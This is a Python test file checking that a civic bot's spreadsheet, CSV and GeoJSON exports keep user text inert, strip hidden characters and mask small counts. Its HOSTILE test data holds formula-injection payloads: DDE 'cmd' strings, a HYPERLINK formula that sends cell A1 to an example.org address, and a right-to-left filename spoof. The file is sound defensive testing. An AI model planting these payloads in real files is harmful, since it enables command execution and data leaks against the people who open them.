"""Files for offices open, show what was said, and never take it for an order."""

from __future__ import annotations

import csv
import io
import json
import re
from zipfile import ZipFile

import pytest
import xlsxwriter
from hypothesis import given
from hypothesis import strategies as st

from bot.sheets.csv_file import write_csv
from bot.sheets.geojson import write_geojson
from bot.sheets.texts import disarmed, shortened, shown
from bot.sheets.xlsx import LONGEST_TEXT, write_xlsx
from civic.text import units
from tests.bot.sheet_rows import (
    EMPTY,
    ROW,
    page_of,
    read_as_excel_does,
    saying,
    sheet,
    words_cells,
    written,
)

HOSTILE = {
    "link": '=HYPERLINK("http://example.org/?"&A1,"اضغطوا هنا")',
    "command": "+cmd|' /C calc'!A0",
    "sum": "@SUM(1+1)*cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "full width": "＝1+1",
    "leading tab": "\t=1+1",
    "leading return": "\r=1+1",
    "second line": "سطر\n=1+1",
    "after a separator": 'كلام;=1+1,=2+2|=3+3"=4+4',
    "hidden before": "\u200f\u200b\ufeff=1+1",
    "turned direction": "ملف \u202egpj.exe\u202c تمام",
    "isolates": "\u2066=1+1\u2069",
    "controls": "ا\x00ب\x07ج\x0bد\x1bهـ\x7f\x85",
    "nul alone": "\x00",
    "lone halves": "قبل \ud83d بعد \udc00",
    "no characters": "\ufffe\uffff\ufdd0",
    "4096 characters": "ماء " * 1024,
    "40000 characters": "😀" * 20_000,
    "emoji": "👨‍👩‍👧‍👦🇸🇾❤️",
    "markup": "<b>x</b> & ]]> <![CDATA[ <!-- ' \"",
    "rich markup": "<r><t>x</t></r>",
    "broken rich markup": "<r></c></row></r>",
    "escape of Excel": "_x0041_ _x000D_ _x005F_",
    "looks like an error": "#REF!",
    "looks like a number": "0123",
    "looks like a date": "1/2",
    "spaces": "  كلام  ",
    "quotes": "\"'\"\"''",
    "address": "http://example.org/ mailto:x@example.org internal:A1 external:c:/x",
    "marks": "ا" + "\u064b" * 60,
    "lines": "سطر\r\nسطر\u2028سطر\u2029سطر",
}

ANY_TEXT = st.text(st.characters(exclude_categories=()), max_size=60) | st.text(
    st.sampled_from("=+-@＝＋－＠,;:|\t\r\n\"' \u200f\u202e\x00\ud800_x041<r>/&A1!#ا"), max_size=40
)
FORMULA = re.compile("[=+\\-@＝＋－＠]")


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
def test_a_hostile_text_is_only_a_text_in_a_sheet(text: str) -> None:
    """The workbook opens; the cell is a text, shows what was said and is no formula or link."""
    [cell] = words_cells([text])
    assert read_as_excel_does(cell) == shortened(shown(text), LONGEST_TEXT)
    assert cell.data_type != "f"
    assert cell.hyperlink is None
    assert cell.quotePrefix


@given(st.lists(ANY_TEXT, min_size=1, max_size=5))
def test_any_text_is_only_a_text_in_a_sheet(texts: list[str]) -> None:
    """Whatever is written, no cell moves and none is lost."""
    cells = words_cells(texts)
    assert [read_as_excel_does(cell) for cell in cells] == [shown(text) for text in texts]
    assert all(cell.data_type != "f" for cell in cells)


@given(st.lists(ANY_TEXT, min_size=1, max_size=5))
def test_no_cell_of_a_list_begins_a_formula(texts: list[str]) -> None:
    """Not even for a program that is set to another separator, or knows nothing of quotes."""
    content = written(write_csv, sheet("csv"), [saying(text) for text in texts])
    plain = content.decode("utf-8-sig")
    for separator in ",;:|\t":
        for quoting in (csv.QUOTE_MINIMAL, csv.QUOTE_NONE):
            lines = csv.reader(io.StringIO(plain), delimiter=separator, quoting=quoting)
            cells = [cell.lstrip(' "\u200f\u200b\ufeff\n\r\t') for line in lines for cell in line]
            assert [cell for cell in cells if FORMULA.match(cell)] == []


@given(st.lists(ANY_TEXT, min_size=1, max_size=5))
def test_a_list_holds_every_text(texts: list[str]) -> None:
    """But for the apostrophes, what was said is what is read."""
    content = written(write_csv, sheet("csv"), [saying(text) for text in texts])
    lines = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    assert [line[-1] for line in lines[1:]] == [disarmed(shown(text)) for text in texts]
    assert {len(line) for line in lines} == {17}


@given(st.lists(ANY_TEXT, max_size=5))
def test_a_map_holds_every_text(texts: list[str]) -> None:
    """GeoJSON is JSON, also with nothing in it."""
    content = written(write_geojson, sheet("geojson"), [saying(text) for text in texts])
    features = json.loads(content)["features"]
    assert [each["properties"]["words"] for each in features] == [shown(text) for text in texts]


@given(ANY_TEXT)
def test_nothing_hidden_is_shown(text: str) -> None:
    """Neither controls nor halves of characters nor turned directions are left."""
    left = shown(text)
    left.encode()
    assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", left)
    assert shown(left) == left


@given(st.text(st.sampled_from("اa😀"), max_size=40), st.integers(2, 40))
def test_a_text_is_shortened_between_characters(text: str, most: int) -> None:
    """Never in the middle of one, never longer than it may be."""
    short = shortened(text, most)
    assert units(short) <= most
    assert short == text or (short.endswith("…") and text.startswith(short[:-1]))


def test_a_sheet_is_typed() -> None:
    """Numbers are numbers, days are days with the names of months used here, the rest is text."""
    [line] = page_of(written(write_xlsx, sheet(), [ROW])).iter_rows(min_row=2)
    cells = dict(zip((column.field for column in sheet().columns), line, strict=True))
    assert {name for name, cell in cells.items() if cell.data_type == "n"} == {
        *("people", "supporters", "age")
    }
    assert cells["number"].value == "012345674"
    assert cells["month"].value.date() == ROW.month
    assert cells["month"].number_format == "[$-2801]mmmm yyyy"
    assert cells["due"].value.date() == ROW.due
    assert cells["due"].number_format == "[$-2801]d mmmm yyyy"


@pytest.mark.parametrize(("language", "turned"), [("ar", True), ("en", False)])
def test_a_sheet_reads_in_the_direction_of_its_language(language: str, turned: bool) -> None:
    """With a head that stays, a filter over all rows, and columns wide enough."""
    page = page_of(written(write_xlsx, sheet(language=language), [ROW] * 3))
    assert bool(page.sheet_view.rightToLeft) is turned
    assert page.freeze_panes == "A2"
    assert page.auto_filter.ref == "A1:Q4"
    assert page.column_dimensions["Q"].width > 50
    assert [cell.value for cell in page[1]] == [
        column.head for column in sheet(language=language).columns
    ]


def test_small_numbers_of_people_are_not_told() -> None:
    """Nor whether there is anybody at all; nothing known is an empty cell."""
    [line] = page_of(written(write_xlsx, sheet(), [EMPTY])).iter_rows(min_row=2)
    cells = dict(zip((column.field for column in sheet().columns), line, strict=True))
    assert cells["supporters"].value == "<5"
    assert {name for name, cell in cells.items() if cell.value is None} == {
        *("since", "people", "office", "age", "due", "words")
    }
    [told] = json.loads(written(write_geojson, sheet("geojson"), [EMPTY]))["features"]
    assert told["properties"]["supporters"] == "<5"
    assert '"<5"' in written(write_csv, sheet("csv"), [EMPTY]).decode()


def test_words_stand_nowhere_unless_they_are_wanted() -> None:
    """A row that holds them all the same does not give them away."""
    for kind, write in (("xlsx", write_xlsx), ("csv", write_csv), ("geojson", write_geojson)):
        content = written(write, sheet(kind, words=False), [ROW])
        if kind == "xlsx":
            with ZipFile(io.BytesIO(content)) as parts:
                content = b"".join(parts.read(name) for name in parts.namelist())
        assert ROW.place.encode() in content
        assert ROW.words.encode() not in content


def test_a_list_is_marked_as_utf_8_and_keeps_its_zeros() -> None:
    """So that Excel reads Arabic, and no program makes a number of a request's number."""
    content = written(write_csv, sheet("csv"), [ROW])
    assert content.startswith(b"\xef\xbb\xbf")
    [_, line] = csv.reader(io.StringIO(content.decode("utf-8-sig")))
    assert line[0] == "012-345-674"
    assert (line[12], line[15]) == ("2026-11", "2026-12-01")


def test_a_map_has_the_places_points_east_before_north() -> None:
    """A place without a point is in the list and not on the map."""
    content = written(write_geojson, sheet("geojson"), [ROW, EMPTY])
    read = json.loads(content)
    assert read["type"] == "FeatureCollection"
    assert read["features"][0]["geometry"] == {"type": "Point", "coordinates": [40.45, 35.04]}
    assert read["features"][1]["geometry"] is None
    assert read["features"][0]["properties"]["month"] == "2026-11"


def _rows_of(content: bytes) -> str:
    with ZipFile(io.BytesIO(content)) as parts:
        return parts.read("xl/worksheets/sheet1.xml").decode().partition("<sheetData>")[2]


def test_rows_are_written_as_the_library_would() -> None:
    """The oracle: xlsxwriter's own rows, for texts that it can write."""
    texts = [text for text in HOSTILE.values() if shown(text) and "<r>" not in text]
    texts = [shortened(shown(text), LONGEST_TEXT) for text in texts]
    ours = _rows_of(written(write_xlsx, sheet(), [saying(text) for text in texts]))
    found = io.BytesIO()
    with xlsxwriter.Workbook(found, {"constant_memory": True}) as book:
        page = book.add_worksheet()
        for line, text in enumerate(texts, 1):
            page.write_string(line, 16, text)
    theirs = re.findall(r'<c r="(Q\d+)"[^>]*>(.*?)</c>', _rows_of(found.getvalue()), re.DOTALL)
    expected = [(at, inside.replace(' xml:space="preserve"', "")) for at, inside in theirs]
    mine = re.findall(r'<c r="(Q\d+)"[^>]*>(.*?)</c>', ours, re.DOTALL)
    told = [(at, inside.replace(' xml:space="preserve"', "")) for at, inside in mine]
    assert told[1:] == expected


def test_a_sheet_does_not_tell_the_time_of_day() -> None:
    """Nor who made it, nor on what machine."""
    with ZipFile(io.BytesIO(written(write_xlsx, sheet(), [ROW]))) as parts:
        about = parts.read("docProps/core.xml").decode()
        entries = parts.infolist()
    assert set(re.findall(r"\d{4}-\d\d-\d\dT[\d:]+", about)) == {"2026-11-22T00:00:00"}
    assert "<dc:creator></dc:creator>" in about
    assert {entry.date_time for entry in entries} == {(1980, 1, 1, 0, 0, 0)}
    assert entries[0].filename == "[Content_Types].xml"
